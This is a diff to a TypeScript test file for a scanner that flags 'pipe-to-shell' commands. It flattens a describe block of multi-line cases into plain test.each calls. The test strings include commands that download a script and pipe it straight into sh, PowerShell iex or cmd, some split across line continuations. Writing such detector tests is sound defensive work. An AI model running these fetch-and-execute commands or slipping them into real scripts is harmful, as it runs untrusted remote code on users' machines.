@@ -93,17 +93,15 @@ test.each([
   expect(scan({ 'a.sh': `curl ${address} | sh` })[0]?.severity).toBe(severity)
 })
 
-describe('a command goes on in a later line', () => {
-  test.each([
-    ['a.sh', 'curl -s https://far.dev/i.sh |\n\n  # tidy\n  sh\n'],
-    ['a.ps1', 'iwr https://far.dev/i.ps1 `\n  | iex\n'],
-    ['a.bat', 'curl https://far.dev/i.bat ^\n  | cmd\n'],
-  ])('%s %j', (path, text) => {
-    expect(scan({ [path]: text })[0]).toMatchObject({ rule: 'pipe-to-shell', line: 1 })
-  })
-  test('but not behind an empty line without a pipe', () => {
-    expect(scan({ 'a.sh': 'curl -s https://far.dev/i.sh \\\n\n| sh\n' })).toEqual([])
-  })
+test.each([
+  ['a.sh', 'curl -s https://far.dev/i.sh |\n\n  # tidy\n  sh\n'],
+  ['a.ps1', 'iwr https://far.dev/i.ps1 `\n  | iex\n'],
+  ['a.bat', 'curl https://far.dev/i.bat ^\n  | cmd\n'],
+])('a command goes on in a later line: %s %j', (path, text) => {
+  expect(scan({ [path]: text })[0]).toMatchObject({ rule: 'pipe-to-shell', line: 1 })
+})
+test('a command goes on in a later line: but not behind an empty line without a pipe', () => {
+  expect(scan({ 'a.sh': 'curl -s https://far.dev/i.sh \\\n\n| sh\n' })).toEqual([])
 })
 
 const quoteOf = (text: string): string => scan({ 'a.sh': text })[0]?.quote ?? ''
